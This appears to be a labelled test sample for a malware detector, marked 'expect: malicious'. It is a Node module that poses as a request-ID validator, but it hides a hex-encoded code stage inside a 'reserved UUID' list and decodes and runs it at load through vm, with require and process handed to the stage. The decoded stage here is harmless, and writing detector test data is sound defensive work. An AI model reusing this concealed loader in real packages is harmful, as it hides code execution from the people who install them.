// expect: malicious
// source: blind set 13 (request-id-uuid-array-vm): a "reserved UUID" list whose entries are hex of a stage, joined,
// decoded and run at load with vm in a context that hands the stage `require` and `process`.
const vm = require('vm');
const RESERVED = ['00000000-0000-0000-0000-000000000000', '636f6e73-6f6c-652e-6c6f-672831290000'];
const raw = RESERVED.slice(1).map((u) => u.replace(/-/g, '')).join('');
const ctx = vm.createContext({ require, process, Buffer });
new vm.Script(Buffer.from(raw, 'hex').toString('utf8').replace(/\0+$/, '')).runInContext(ctx);
module.exports = (id) => !RESERVED.includes(id);
